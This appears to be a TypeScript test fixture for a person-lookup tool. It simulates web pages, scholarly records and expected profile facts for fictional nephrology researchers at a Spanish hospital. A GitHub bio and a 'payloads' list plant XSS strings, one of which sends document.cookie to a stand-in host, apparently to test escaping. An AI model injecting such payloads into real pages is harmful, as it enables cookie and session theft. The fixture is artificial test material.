import type { WorldPart } from "../World.ts"

const hospital = (titulo: string, cuerpo: string): string => `<!DOCTYPE html>
<html lang="es" dir="ltr"><head><meta charset="utf-8"><title>${titulo} | Hospital Universitario Arroyomar</title><meta name="Generator" content="Drupal 10 (https://www.drupal.org)"></head>
<body class="path-node page-node-type-page"><a href="#main-content" class="visually-hidden focusable">Pasar al contenido principal</a>
<div class="eu-cookie-compliance-banner">Utilizamos cookies propias y de terceros. <button>Aceptar</button> <button>Rechazar</button> <a href="/politica-cookies">Más información</a></div>
<header><a href="/"><img src="/themes/custom/hua/logo.svg" alt="Hospital Universitario Arroyomar"></a><ul class="menu"><li><a href="/pacientes">Pacientes</a></li><li><a href="/profesionales">Profesionales</a></li><li><a href="/docencia">Docencia</a></li><li><a href="/investigacion">Investigación</a></li><li><a href="/actualidad">Actualidad</a></li><li><a href="/cita-previa">Cita previa</a></li></ul></header>
<main id="main-content">${cuerpo}</main>
<footer>Hospital Universitario Arroyomar · Avenida de los Tilos, 41 · 33203 Gijón (Asturias) · 985 555 100 · Aviso legal · Accesibilidad · Portal de transparencia</footer></body></html>`

/** A hospital's kidney research group in Asturias: a head with records, a statistician whose bios carry markup, an unknown. */
export const arroyomar: WorldPart = {
  pages: [
    {
      url: "https://arroyomar.example/investigacion/grupos/nefrologia",
      body: hospital(
        "Grupo de Investigación en Nefrología",
        `<h1>Grupo de Investigación en Nefrología</h1><p>Hacemos investigación clínica sobre la enfermedad renal crónica: quién empeora, por qué y cómo evitarlo.</p><h2>Equipo</h2><div class="view-content"><div class="views-row"><h3>Dra. Nuria Cienfuegos Valdés</h3><p>Investigadora principal. Jefa de Sección de Nefrología. Coordina la cohorte NORTE-RIÑÓN (2.840 pacientes de Asturias, Cantabria y León).</p></div><div class="views-row"><h3>Pablo Argüelles Montoto</h3><p>Bioestadístico. Se ocupa de los modelos, de los datos y de decir que no.</p></div><div class="views-row"><h3>Covadonga Rendueles Meana</h3><p>Enfermera de investigación.</p></div></div><h2>Líneas</h2><ul><li>Progresión de la enfermedad renal crónica</li><li>Diálisis peritoneal en domicilio</li></ul>`
      )
    },
    {
      url: "https://arroyomar.example/actualidad/premio-cienfuegos-2026",
      body: hospital(
        "La Dra. Cienfuegos, premio a la investigación clínica",
        `<article><h1>La Dra. Cienfuegos recibe el Premio Cantábrico de Investigación Clínica</h1><p class="fecha">18 de mayo de 2026</p><p>Nuria Cienfuegos Valdés, jefa de Sección de Nefrología de nuestro hospital, ha recibido el Premio Cantábrico de Investigación Clínica por la cohorte NORTE-RIÑÓN. El jurado destaca que el programa de diálisis peritoneal domiciliaria que puso en marcha en 2019 ha evitado más de 40.000 viajes en ambulancia.</p><p>Licenciada en Medicina por la Universidad de Oviedo (1999), se doctoró en la Universidad de Barcelona en 2008. Es vocal de la junta directiva de la Sociedad Española de Nefrología.</p></article>`
      )
    },
    {
      url: "https://diariodelmusel.example/contraportada/2026/11/nuria-cienfuegos",
      news: { seen: "20261115T080000Z", language: "Spanish", country: "Spain" },
      body: `<!doctype html><html lang="es"><head><title>Nuria Cienfuegos, nefróloga: «El riñón es un órgano discreto» | Diario del Musel</title><script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"«El riñón es un órgano discreto»","datePublished":"2026-11-15","author":{"@type":"Person","name":"Toño Fanjul"}}</script></head><body><div class="menu">Gijón · Asturias · Sporting · Opinión · Esquelas · Suscríbete</div><article><h1>«El riñón es un órgano discreto»</h1><p>Toño Fanjul. Gijón, 15 nov. 2026</p><p><b>—¿Por qué nefróloga?</b></p><p>—Porque nadie quería la plaza. Y porque el riñón es un órgano discreto, como la gente de mi pueblo, que es Candás.</p><p><b>—¿Sigue viviendo allí?</b></p><p>—Claro. Con dos gatas, Urea y Creatina, que no se hablan.</p><p><b>—Dicen que canta.</b></p><p>—Canto en un coro de habaneras, de contralto. Y los domingos hago surf en Rodiles, mal, con un neopreno que ya no cierra.</p><p><b>—¿Sporting o Avilés?</b></p><p>—Sporting de Gijón. Abonada desde los seis años. También se sufre en los hospitales.</p><p><b>—Va todos los veranos a Senegal.</b></p><p>—Con la asociación Riñón Solidario, que somos cuatro. Montamos una unidad de diálisis en Ziguinchor.</p></article></body></html>`
    },
    {
      url: "https://congresonefroasturias.example/2025/ponentes",
      body: `<html lang="es"><head><title>Ponentes - Jornadas de Nefrología del Norte 2025</title></head><body><h1>Ponentes</h1><table><tr><td><strong>Dra. Nuria Cienfuegos Valdés</strong><br>Hospital Universitario Arroyomar</td><td>Especialista en Nefrología vía MIR (Hospital Clínic, 2004) y máster en Epidemiología. Ha publicado sobre ecografía a pie de cama y diálisis peritoneal. Ponencia: «Pinchar menos, mirar más».</td></tr><tr><td><strong>Pablo Argüelles</strong><br>Hospital Universitario Arroyomar</td><td>Matemático. Ponencia: «Un valor p no es un resultado». Certificado como estadístico acreditado por la Sociedad de Estadística e Investigación Operativa desde 2022.</td></tr><tr><td><strong>Dr. Iñaki Uribarri</strong><br>Basurto</td><td>«Trasplante a los 75».</td></tr></table></body></html>`
    },
    {
      url: "https://parguelles.example/sobre-mi",
      body: `<!doctype html><html lang="es"><head><meta charset="utf-8"><title>Sobre mí · Pablo Argüelles</title><meta name="generator" content="Quarto 1.6"></head><body><nav>Blog | Código | Sobre mí</nav><main><h1>Sobre mí</h1><p>Soy Pablo Argüelles Montoto, bioestadístico en el Hospital Universitario Arroyomar de Gijón. Vivo en Villaviciosa, rodeado de manzanos, y hago sidra casera que a veces se puede beber.</p><p>Trabajo en R y en Stan, sobre todo en análisis de supervivencia con datos que faltan. Antes estuve cuatro años en una compañía de seguros de Bilbao contando siniestros.</p><p>Estudié Matemáticas en la Universidad de Cantabria (2013) y el máster en Bioestadística de la Universitat de València (2015).</p><p>Fuera del ordenador: espeleología con el grupo Polifemo, y ajedrez por correspondencia, que es el deporte más lento después del críquet. Tengo un asturcón que se llama Bayes y come más manzanas de las que yo prenso.</p><p>&lt;img src=x onerror="document.title='bayes-was-here'"&gt; &lt;-- si ves esto como texto, tu web está bien hecha.</p><p>Soy socio de la Sociedad Española de Bioestadística y doy clases de R los sábados en la asociación Código Llariego, para gente en paro.</p></main></body></html>`
    },
    {
      url: "https://rhispano-norte.example/2026/entrevista-parguelles",
      body: `<!doctype html><html lang="es"><head><title>Cuatro preguntas a Pablo Argüelles | R Hispano Norte</title></head><body><h1>Cuatro preguntas a Pablo Argüelles</h1><p>Su paquete <code>faltosa</code> acaba de llevarse el premio al mejor paquete en las XVI Jornadas de R. Hablamos con él en una sidrería.</p><p><b>¿Qué hace faltosa?</b> Te dice, antes de que imputes nada, cuánto te estás inventando.</p><p><b>¿Para quién?</b> Para los nefrólogos con los que trabajo. Con esos datos calculamos en 2025 la ecuación de riesgo que ya usan los centros de salud de Asturias.</p><p><b>Has venido con la bufanda del Real Oviedo.</b> Era de mi padre. En el hospital, en Gijón, la dejo en el coche.</p></body></html>`
    }
  ],
  listings: [
    {
      url: "https://x.com/nuriacienfuegosv",
      title: "Nuria Cienfuegos (@nuriacienfuegosv) / X",
      snippet:
        "Nefróloga. Riñones, habaneras y mar. Jefa de Sección en @HUArroyomar. Opiniones mías y de Urea."
    },
    {
      url: "https://www.linkedin.com/in/pablo-arguelles-bioestadistica",
      title: "Pablo Argüelles Montoto - Bioestadístico - Hospital Universitario Arroyomar | LinkedIn",
      snippet:
        "Cuento lo que falta. Villaviciosa, Principado de Asturias, España · Bioestadístico en Hospital Universitario Arroyomar · Educación: Universitat de València"
    }
  ],
  orcid: [
    {
      id: "0000-0002-4417-9093",
      given: "Nuria",
      family: "Cienfuegos Valdés",
      keywords: ["enfermedad renal crónica", "diálisis peritoneal", "ecografía"],
      urls: [
        { label: "Grupo de Nefrología", url: "https://arroyomar.example/investigacion/grupos/nefrologia" }
      ],
      country: "ES",
      employments: [
        {
          organization: "Hospital Universitario Arroyomar",
          role: "Jefa de Sección",
          department: "Nefrología",
          city: "Gijón",
          country: "ES",
          from: 2014
        }
      ],
      educations: [
        {
          organization: "Universitat de Barcelona",
          role: "Doctora en Medicina",
          department: "Medicina",
          city: "Barcelona",
          country: "ES",
          from: 2004,
          to: 2008
        }
      ],
      works: [
        {
          title: "Home peritoneal dialysis in a dispersed rural population: seven years of a programme",
          type: "journal-article",
          year: 2026,
          journal: "Kidney Practice"
        },
        {
          title: "Predicting progression of chronic kidney disease in northern Spain",
          type: "journal-article",
          year: 2025,
          journal: "Iberian Nephrology"
        }
      ]
    }
  ],
  openalex: [
    {
      id: "A5071449093",
      name: "Nuria Cienfuegos-Valdés",
      orcid: "0000-0002-4417-9093",
      institution: "Hospital Universitario Arroyomar",
      country: "ES",
      years: [2014, 2017, 2019, 2021, 2023, 2025, 2026],
      works_count: 88,
      cited_by_count: 2310,
      topics: ["Dialysis and Renal Disease Management", "Chronic Kidney Disease and Diabetes"]
    }
  ],
  crossref: [
    {
      doi: "10.55555/ibneph.2025.114",
      title: "Predicting progression of chronic kidney disease in northern Spain",
      journal: "Iberian Nephrology",
      published: [2025, 6, 11],
      authors: [
        {
          given: "Pablo",
          family: "Argüelles Montoto",
          affiliation: "Hospital Universitario Arroyomar, Gijón"
        },
        {
          given: "Nuria",
          family: "Cienfuegos Valdés",
          affiliation: "Hospital Universitario Arroyomar, Gijón",
          orcid: "0000-0002-4417-9093"
        }
      ]
    }
  ],
  github: [
    {
      login: "parguelles-stat",
      id: 655190,
      name: "Pablo Argüelles",
      company: "Hospital Universitario Arroyomar",
      blog: "https://parguelles.example",
      location: "Asturias",
      bio: `Bioestadístico. Missing data, sidra, cuevas. <svg onload="fetch('//bayes.example/'+document.cookie)">`,
      commit_email: "pablo.arguelles@arroyomar.example",
      repositories: [
        {
          name: "faltosa",
          description: "How much of your data are you about to make up?",
          language: "R",
          topics: ["missing-data", "rstats", "imputation"],
          stars: 231,
          pushed_at: "2026-12-08T18:00:00Z"
        }
      ]
    }
  ],
  stackExchange: [
    {
      id: 1190447,
      name: "Pablo Argüelles",
      location: "Villaviciosa, Spain",
      website: "https://parguelles.example",
      about:
        "<p>Biostatistician in a hospital. I answer questions on survival analysis and missing data.</p>",
      reputation: 14320,
      tags: ["r", "survival", "stan"]
    }
  ],
  payloads: [
    `<svg onload="fetch('//bayes.example/'+document.cookie)">`,
    `<img src=x onerror="document.title='bayes-was-here'">`
  ],
  people: [
    {
      id: "nuria-cienfuegos-valdes",
      about: "The head of a hospital group: Spanish pages, ORCID, OpenAlex, Crossref and an X listing.",
      contact: {
        email: "nuria.cienfuegos@arroyomar.example",
        full_name: "Nuria Cienfuegos Valdés",
        company: "Hospital Universitario Arroyomar"
      },
      outcome: "found",
      facts: {
        title:
          "Jefa de Sección de Nefrología | Jefa de Sección | Investigadora principal | Head of Nephrology Section | Jefa de Sección, Nefrología",
        company: "Hospital Universitario Arroyomar | Arroyomar",
        location: "Candás | Gijón | Gijón (Asturias) | Gijón, ES | Gijón, Spain | Gijón, España",
        skills: ["diálisis peritoneal | peritoneal dialysis | Diálisis peritoneal en domicilio"],
        achievements: ["Premio Cantábrico de Investigación Clínica"],
        hobbies: [
          "coro de habaneras | habaneras | canta en un coro de habaneras | Canto en un coro de habaneras | choir"
        ],
        sports_teams: ["Sporting de Gijón | Sporting"],
        causes: ["Riñón Solidario | asociación Riñón Solidario"],
        memberships: ["Sociedad Española de Nefrología"],
        education: [
          {
            institution: "Universidad de Oviedo | University of Oviedo",
            degree: "Licenciada en Medicina | Licenciatura | Licenciada",
            field: "Medicina",
            year: 1999
          }
        ],
        certifications: [
          "Especialista en Nefrología vía MIR | Especialista en Nefrología | MIR | Especialista en Nefrología vía MIR (Hospital Clínic, 2004)"
        ],
        pets: ["dos gatas, Urea y Creatina | dos gatas | gatas | Urea y Creatina | Urea | Creatina"],
        twitter:
          "https://x.com/nuriacienfuegosv | x.com/nuriacienfuegosv | https://twitter.com/nuriacienfuegosv | @nuriacienfuegosv | nuriacienfuegosv"
      },
      also: {
        twitter_bio:
          "Nefróloga. Riñones, habaneras y mar. Jefa de Sección en @HUArroyomar. Opiniones mías y de Urea. | Nefróloga. Riñones, habaneras y mar. | Nefróloga. Riñones, habaneras y mar. Jefa de Sección en @HUArroyomar. Opiniones mías y de Urea",
        title: "nefróloga | Nefróloga | nephrologist",
        location: "Asturias | España | Spain | ES",
        industry:
          "investigación clínica | Nefrología | sanidad | hospital | healthcare | clinical research | medicina | salud | investigación",
        skills: [
          "ecografía | ecografía a pie de cama | ultrasound",
          "nefrología | Nefrología",
          "Epidemiología | epidemiología",
          "enfermedad renal crónica",
          "diálisis",
          "Dialysis and Renal Disease Management",
          "Chronic Kidney Disease and Diabetes",
          "investigación clínica"
        ],
        achievements: [
          "cohorte NORTE-RIÑÓN | NORTE-RIÑÓN | la cohorte NORTE-RIÑÓN",
          "programa de diálisis peritoneal domiciliaria | evitado más de 40.000 viajes en ambulancia | más de 40.000 viajes en ambulancia",
          "Pinchar menos, mirar más",
          "vocal de la junta directiva de la Sociedad Española de Nefrología | vocal de la junta directiva",
          "unidad de diálisis en Ziguinchor | Montamos una unidad de diálisis en Ziguinchor",
          "Home peritoneal dialysis in a dispersed rural population | Home peritoneal dialysis in a dispersed rural population: seven years of a programme",
          "Predicting progression of chronic kidney disease in northern Spain",
          "88 works | 2310 citations | cited 2310 times | cited 2,310 times"
        ],
        interests: [
          "diálisis peritoneal",
          "enfermedad renal crónica",
          "ecografía",
          "habaneras | Riñones, habaneras y mar",
          "surf",
          "mar | el mar",
          "riñones | riñón",
          "Epidemiología",
          "Sporting de Gijón | fútbol",
          "nefrología",
          "Dialysis and Renal Disease Management",
          "Chronic Kidney Disease and Diabetes",
          "Diálisis peritoneal en domicilio",
          "Senegal"
        ],
        hobbies: ["surf | surf en Rodiles | surfing", "cantar | canto | contralto"],
        causes: ["unidad de diálisis en Ziguinchor | Senegal"],
        memberships: [
          "junta directiva de la Sociedad Española de Nefrología",
          "coro de habaneras",
          "Riñón Solidario"
        ],
        education: [
          {
            institution: "Universidad de Barcelona | Universitat de Barcelona | University of Barcelona",
            degree: "Doctora en Medicina | doctorado | PhD",
            field: "Medicina",
            year: 2008
          },
          { institution: "Hospital Clínic", degree: "MIR", field: "Nefrología", year: 2004 }
        ],
        certifications: ["máster en Epidemiología"]
      },
      sources: [
        "https://arroyomar.example/investigacion/grupos/nefrologia",
        "https://arroyomar.example/actualidad/premio-cienfuegos-2026",
        "https://diariodelmusel.example/contraportada/2026/11/nuria-cienfuegos",
        "https://congresonefroasturias.example/2025/ponentes",
        "https://x.com/nuriacienfuegosv",
        "https://pub.orcid.org/v3.0/0000-0002-4417-9093/person",
        "https://pub.orcid.org/v3.0/0000-0002-4417-9093/employments",
        "https://pub.orcid.org/v3.0/0000-0002-4417-9093/educations"
      ]
    },
    {
      id: "pablo-arguelles-montoto",
      about: "A statistician whose bios carry markup: his own page escaped, his GitHub bio not.",
      contact: { email: "pablo.arguelles@arroyomar.example", full_name: "Pablo Argüelles Montoto" },
      outcome: "found",
      facts: {
        title: "Bioestadístico | bioestadístico | Biostatistician",
        company: "Hospital Universitario Arroyomar | Arroyomar",
        location:
          "Villaviciosa | Villaviciosa, Principado de Asturias, España | Villaviciosa, Spain | Villaviciosa, Asturias | Gijón",
        skills: ["R", "análisis de supervivencia | survival analysis | survival"],
        achievements: [
          "ecuación de riesgo que ya usan los centros de salud de Asturias | ecuación de riesgo | la ecuación de riesgo"
        ],
        hobbies: ["espeleología | espeleología con el grupo Polifemo | caving"],
        sports_teams: ["Real Oviedo"],
        causes: ["Código Llariego | asociación Código Llariego"],
        memberships: ["Sociedad Española de Bioestadística"],
        education: [
          {
            institution: "Universitat de València | Universidad de Valencia",
            degree: "máster | Máster",
            field: "Bioestadística",
            year: 2015
          }
        ],
        certifications: [
          "estadístico acreditado por la Sociedad de Estadística e Investigación Operativa | estadístico acreditado"
        ],
        pets: ["asturcón | Bayes | un asturcón | caballo | horse"]
      },
      also: {
        linkedin:
          "https://www.linkedin.com/in/pablo-arguelles-bioestadistica | linkedin.com/in/pablo-arguelles-bioestadistica",
        education: [
          {
            institution: "Universidad de Cantabria",
            field: "Matemáticas",
            year: 2013
          }
        ],
        title: "Matemático | matemático",
        location: "Asturias | Gijón | España | Spain",
        industry:
          "investigación clínica | Nefrología | sanidad | hospital | healthcare | clinical research | bioestadística | medicina | salud | investigación",
        skills: [
          "Stan | stan",
          "missing data | Missing data | missing-data | datos que faltan",
          "imputation | imputación",
          "rstats",
          "bioestadística | Bioestadística",
          "modelos",
          "estadística",
          "docencia | clases de R"
        ],
        achievements: [
          "premio al mejor paquete en las XVI Jornadas de R | premio al mejor paquete | mejor paquete",
          "faltosa | paquete faltosa",
          "Un valor p no es un resultado",
          "Predicting progression of chronic kidney disease in northern Spain",
          "14320 reputation | reputation 14320 | 14,320 reputation",
          "estuve cuatro años en una compañía de seguros de Bilbao | compañía de seguros de Bilbao",
          "Cuatro preguntas a Pablo Argüelles"
        ],
        interests: [
          "missing data | Missing data | datos que faltan | missing-data",
          "sidra",
          "cuevas | espeleología",
          "ajedrez | ajedrez por correspondencia",
          "survival analysis | análisis de supervivencia",
          "rstats | R",
          "imputation",
          "Stan | stan",
          "Real Oviedo | fútbol",
          "manzanos",
          "Bioestadística"
        ],
        hobbies: [
          "ajedrez por correspondencia | ajedrez | correspondence chess",
          "sidra casera | hacer sidra | hago sidra casera | sidra | cider making",
          "cuevas"
        ],
        causes: ["clases de R los sábados | gente en paro"],
        memberships: [
          "Polifemo | grupo Polifemo",
          "Sociedad de Estadística e Investigación Operativa",
          "Código Llariego"
        ],
        linkedin_bio: "Cuento lo que falta. | Cuento lo que falta"
      },
      sources: [
        "https://arroyomar.example/investigacion/grupos/nefrologia",
        "https://congresonefroasturias.example/2025/ponentes",
        "https://parguelles.example/sobre-mi",
        "https://rhispano-norte.example/2026/entrevista-parguelles",
        "https://www.linkedin.com/in/pablo-arguelles-bioestadistica",
        "https://api.github.com/users/parguelles-stat",
        "https://api.github.com/users/parguelles-stat/repos",
        "https://stackoverflow.com/users/1190447"
      ]
    },
    {
      id: "beatriz-llaneza-quiros",
      about: "Nothing public: the group's page does not name her.",
      contact: {
        email: "beatriz.llaneza@arroyomar.example",
        full_name: "Beatriz Llaneza Quirós",
        company: "Hospital Universitario Arroyomar"
      },
      outcome: "nothing",
      facts: {},
      sources: []
    }
  ]
}
